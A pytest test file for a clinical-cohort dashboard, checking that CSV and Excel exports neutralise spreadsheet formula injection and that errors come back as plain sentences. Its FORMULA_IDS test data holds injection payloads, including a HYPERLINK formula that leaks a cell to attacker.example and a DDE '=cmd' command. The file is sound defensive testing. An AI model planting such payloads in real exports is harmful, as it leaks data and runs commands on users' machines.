"""Every CSV and .xlsx the dashboard writes: a text cell that a spreadsheet would run as a
formula starts with an apostrophe (analysis/spreadsheet.py); numbers stay numbers. And the
errors that used to escape as stack text now come back as sentences."""

from __future__ import annotations

import io
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from analysis.cohort import from_bytes, load
from analysis.io import read_cohort
from analysis.report import endpoints_csv, endpoints_table
from analysis.schema import CohortError, FORMULA_PREFIXES
from analysis.spreadsheet import neutralise
from analysis.template import template_workbook

ROOT = Path(__file__).resolve().parent.parent
from testkit import hostile

FORMULA_IDS = ['=HYPERLINK("http://attacker.example/?leak="&B2;"click")', "+1+1", "@SUM(1+1)",
               "=cmd|' /C calc'!A0", "-2+3"]


def test_neutralise_prefixes_every_formula_start_and_leaves_the_rest():
    df = pd.DataFrame({"id": ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "P-1", "ok", None],
                       "n": [-1, 2, 3, 4, 5, 6, 7, 8, 9], "=name": ["a"] * 9})
    out = neutralise(df)
    assert list(out["id"][:6]) == ["'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1"]
    assert list(out["id"][6:8]) == ["P-1", "ok"] and pd.isna(out["id"].iloc[8])
    assert list(out["n"]) == list(df["n"])  # numbers are numbers
    assert list(out.columns) == ["id", "n", "'=name"]
    assert list(df["id"][:1]) == ["=1+1"]  # the input is not changed


@pytest.fixture(scope="module")
def formula_cohort(tmp_path_factory):
    path = hostile.build(next(c for c in hostile.CASES if c.file == "formula-ids.csv"), tmp_path_factory.mktemp("f"))
    return path


def test_the_endpoints_csv_neutralises_formula_ids(formula_cohort, tmp_path):
    cohort = load(formula_cohort)
    assert any("run as formulas" in w.message for w in cohort.report.warnings)
    for text in (endpoints_csv(endpoints_table(cohort)).decode(),
                 _cli_endpoints(formula_cohort, tmp_path / "out.csv")):
        ids = list(pd.read_csv(io.StringIO(text), dtype=str)["patient_id"])
        # "\tTAB" lost its tab to validation (cells are stripped); the five others keep their text.
        assert sorted(i.removeprefix("'") for i in ids) == sorted(FORMULA_IDS + ["TAB"]), ids
        assert sum(i.startswith("'") for i in ids) == 5
        assert not any(i.startswith(FORMULA_PREFIXES) for i in ids)


def _cli_endpoints(cohort: Path, out: Path) -> str:
    r = subprocess.run([sys.executable, "-m", "analysis", "endpoints", str(cohort), "--out", str(out)], cwd=ROOT,
                       capture_output=True, text=True, timeout=120)
    assert r.returncode == 0, r.stderr
    return out.read_text()


def test_the_template_workbook_holds_text_not_formulas(formula_cohort):
    tables = load(formula_cohort).tables
    wb = load_workbook(io.BytesIO(template_workbook(tables, per_arm=6)))
    cells = [c for row in wb["patients"].iter_rows(min_row=2) for c in row[:1]]
    assert all(c.data_type == "s" for c in cells)  # text, not formulas ("f")
    assert {c.value for c in cells} == {"'" + i for i in FORMULA_IDS} | {"TAB"}


@pytest.mark.parametrize("name, sentence", [
    ("list-age.parquet", "holds lists"),
    ("year-one.parquet", "outside 1900–2100"),
    ("infinite-cost.csv", "not finite numbers"),
    ("utf16.csv", "UTF-16"),
])
def test_the_command_line_says_a_sentence_where_stack_text_escaped(name, sentence, tmp_path):
    path = hostile.build(next(c for c in hostile.CASES if c.file == name), tmp_path)
    r = subprocess.run([sys.executable, "-m", "analysis", "validate", str(path)], cwd=ROOT, capture_output=True,
                       text=True, timeout=120)
    assert r.returncode == 1
    assert sentence in r.stdout and "Could not complete" not in r.stderr and "Traceback" not in r.stderr


def test_an_unreadable_cohort_file_says_why(tmp_path, monkeypatch):
    folder = tmp_path / "cohort"
    folder.mkdir()
    (folder / "patients.csv").write_text("patient_id\nP1\n")

    def refuse(self):
        raise PermissionError(13, "Permission denied")

    monkeypatch.setattr(Path, "read_bytes", refuse)
    with pytest.raises(CohortError) as info:
        read_cohort(folder)
    assert "could not be read (Permission denied)" in str(info.value)


@pytest.mark.parametrize("where, sentence", [("does-not-exist", "does not exist"), ("file/inside", "does not exist")])
def test_a_missing_cohort_path_is_named_with_its_reason(where, sentence, tmp_path, monkeypatch):
    from test_pages import fresh

    (tmp_path / "file").write_text("x")
    monkeypatch.setenv("COHORT_PATH", str(tmp_path / where))
    at = fresh().run()
    assert not at.exception
    error = " ".join(e.value for e in at.error).replace("\\", "")
    assert f"The configured cohort ({tmp_path / where}) could not be loaded" in error and sentence in error


def test_an_uploaded_cohort_name_is_printable_and_short():
    meta = b'{"name": "Ward 7\\u202e\\u0000' + b"x" * 500 + b'"}'
    csv = (hostile.HEADER + "\n" + hostile.ROW.format(i=1) + "\n").encode()
    cohort = from_bytes("c.zip", hostile.raw_zip([hostile.stored("cohort.json", meta), hostile.stored("patients.csv", csv)]))
    assert cohort.name.startswith("Ward 7x") and len(cohort.name) <= 120 and cohort.name.isprintable()


def test_the_template_uploaded_as_it_is_shows_two_arms_of_examples(shipped):
    """The template's rows are examples from the synthetic cohort: uploaded unchanged they are
    named so, called synthetic, and both arms can be compared."""
    from analysis.template import TEMPLATE_NAME

    cohort = from_bytes("cohort-template.xlsx", template_workbook(shipped.tables))
    assert cohort.name == TEMPLATE_NAME and cohort.synthetic
    assert cohort.endpoints["arm"].value_counts().to_dict() == {"tacrolimus": 2, "control": 2}
    assert not cohort.report.problems
